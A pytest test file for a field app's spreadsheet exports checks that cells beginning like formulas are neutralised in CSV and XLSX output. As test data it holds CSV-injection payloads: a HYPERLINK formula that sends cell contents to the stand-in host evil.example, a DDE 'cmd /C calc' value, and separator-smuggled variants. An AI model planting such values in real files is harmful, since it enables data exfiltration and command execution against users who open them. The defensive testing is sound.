"""Exports open in a spreadsheet as data: a cell that starts like a formula is neutralised."""

from __future__ import annotations

import csv
import io
import re
import uuid
import zipfile
from datetime import UTC, date, datetime

import pytest

from fieldapp.common import spreadsheet
from tests.spreadsheets import csv_records, workbook

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Klik")'


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (FORMULA, "'" + FORMULA),
        ("+32 470 12 34 56", "'+32 470 12 34 56"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t'=1+1"),
        ("\r=1+1", "'\r'=1+1"),
        ("  =1+1", "  '=1+1"),
        ('"=1+1"', '"\'=1+1"'),
        ("-0.50", "-0.50"),
        ("+1,5", "+1,5"),
        ("Een gewone notitie = goed", "Een gewone notitie = goed"),
        (-3, -3),
    ],
)
def test_a_cell_that_starts_like_a_formula_is_neutralised(value, shown):
    assert spreadsheet.cell(value) == shown


# Texts that start a formula in a spreadsheet that splits on another character than ``;``.
SMUGGLED = [
    'x,=HYPERLINK("http://evil.example")',
    "x, +cmd|' /C calc'!A0",
    'Goed;"=1+2"',
    "a\t-2+3",
    "a|@SUM(A1)",
    'eerste regel\r\n=HYPERLINK("http://evil.example")',
    'eerste regel\n"=1+2',
    ' =HYPERLINK("http://evil.example")',  # an importer that trims spaces
    '"=1+2',
]
NUMBERS = [3.5, -0.5, 7, -2, date(2026, 12, 1), datetime(2026, 12, 1, 9, 30, tzinfo=UTC)]


def _starts_a_formula(text: str) -> bool:
    opening = text.lstrip(' "\t\r\n')
    return opening.startswith(("=", "+", "-", "@")) and not re.fullmatch(
        r"[+-]?[0-9]+(?:[.,][0-9]+)?", opening.rstrip('"')
    )


@pytest.mark.parametrize("separator", [";", ",", "\t", "|"])
def test_no_cell_starts_a_formula_whatever_the_spreadsheet_splits_on(app, separator):
    """The file is for a Belgian Excel (``;``), but an English Excel or LibreOffice's import
    dialog splits on ``,`` (and others on a tab or a ``|``): ``x,=HYPERLINK(...)`` became a live
    formula there. Every text is safe for each, and numbers and dates stay bare for Excel."""
    table = spreadsheet.Table(["Tekst", *(f"Getal {n}" for n in range(len(NUMBERS)))])
    table.rows = [[text, *NUMBERS] for text in SMUGGLED]
    with app.test_request_context(headers={"Accept-Language": "nl"}):
        data = spreadsheet.to_csv(table)
    text = data.decode("utf-8").removeprefix("\ufeff")

    cells = [
        cell
        for line in csv.reader(io.StringIO(text, newline=""), delimiter=separator)
        for cell in line
    ]
    for line in text.splitlines():  # an importer that splits rows on every line break
        cells += line.split(separator)
    assert [cell for cell in cells if _starts_a_formula(cell)] == []

    if separator == ";":
        rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
        assert [len(row) for row in rows] == [1 + len(NUMBERS)] * (1 + len(SMUGGLED))
        assert rows[1][1:] == ["3,50", "-0,50", "7", "-2", "2026-12-01", "2026-12-01 10:30:00"]
        assert rows[1][0] == 'x,\'=HYPERLINK("http://evil.example")'
        assert ";3,50;-0,50;7;-2;2026-12-01;2026-12-01 10:30:00\r\n" in text  # not quoted


def test_a_formula_in_a_note_stays_text_in_the_subject_access_export(client, auth, make):
    world = make.world()
    auth.login(world.counsellor.email)
    note = {"note_uuid": str(uuid.uuid4()), "revision_uuid": str(uuid.uuid4()), "body": FORMULA}
    assert client.post(f"/api/visits/{world.visit.id}/notes", json=note).status_code == 201
    archive = zipfile.ZipFile(io.BytesIO(client.get(f"/clients/{world.client.id}/export").data))
    rows = csv_records(archive.read("visit_notes.csv"))
    assert [row["body"] for row in rows] == ["'" + FORMULA]
    notes = workbook(archive.read("client.xlsx"))["visit_notes"]
    body = next(cell for cell in notes[2] if cell.value == FORMULA)
    assert body.data_type == "s"  # text, not a formula


def test_control_characters_in_a_note_read_as_replacement_characters_in_the_xlsx(
    client, auth, make
):
    """A workbook cannot hold them; the CSV keeps the note as it was written."""
    world = make.world()
    auth.login(world.counsellor.email)
    body = "Bel\x07 morgen \x1b[31mdringend\x0b"
    note = {"note_uuid": str(uuid.uuid4()), "revision_uuid": str(uuid.uuid4()), "body": body}
    assert client.post(f"/api/visits/{world.visit.id}/notes", json=note).status_code == 201
    export = client.get(f"/clients/{world.client.id}/export")
    assert export.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(export.data))
    assert [row["body"] for row in csv_records(archive.read("visit_notes.csv"))] == [body]
    notes = workbook(archive.read("client.xlsx"))["visit_notes"]
    assert "Bel\ufffd morgen \ufffd[31mdringend\ufffd" in [cell.value for cell in notes[2]]
